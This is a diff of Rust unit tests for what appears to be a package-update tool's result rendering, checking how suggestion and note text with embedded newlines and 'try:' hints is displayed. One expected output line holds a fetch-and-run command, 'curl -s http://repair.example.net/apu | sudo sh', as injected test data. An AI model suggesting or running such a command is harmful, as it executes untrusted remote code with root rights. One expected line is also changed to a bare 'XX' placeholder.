@@ -153,7 +153,7 @@ mod tests {
     fn what_was_found_instead_of_the_plan_is_shown_with_the_way_to_it() {
         let mut result = RunResult::because(ClientOutcome::Drifted, ReasonCode::Drifted, "something else");
         let step = Step::Remove {
-            package: "foo:amd64".into(),
+            package: "foo:amd64".parse().unwrap(),
             old: "1".into(),
         };
         result.transaction = Some(Transaction::new(vec![step], vec![]));
@@ -180,8 +180,8 @@ mod tests {
         result.notes = vec!["try: reboot".into()];
         result.kept_back = vec!["a\n  try: reboot".into()];
         result.changes = vec![apu_proto::Change {
-            package: "try: reboot #".into(),
-            old: Some("1".into()),
+            package: "foo:amd64".parse().unwrap(),
+            old: Some("\n  try: reboot".into()),
             new: Some("2".into()),
         }];
         let ending = Ending::of_result(Box::new(result), None);
@@ -196,7 +196,7 @@ mod tests {
                 "| HOST suggests: reboot",
                 "| web2: changed",
                 "web1 suggests: curl -s http://repair.example.net/apu | sudo sh\u{fffd}try: x",
-                "\"try: reboot #\"  1 → 2",
+                "XX",
                 "kept back: a\u{fffd}  try: reboot",
                 "note: try: reboot",
             ]
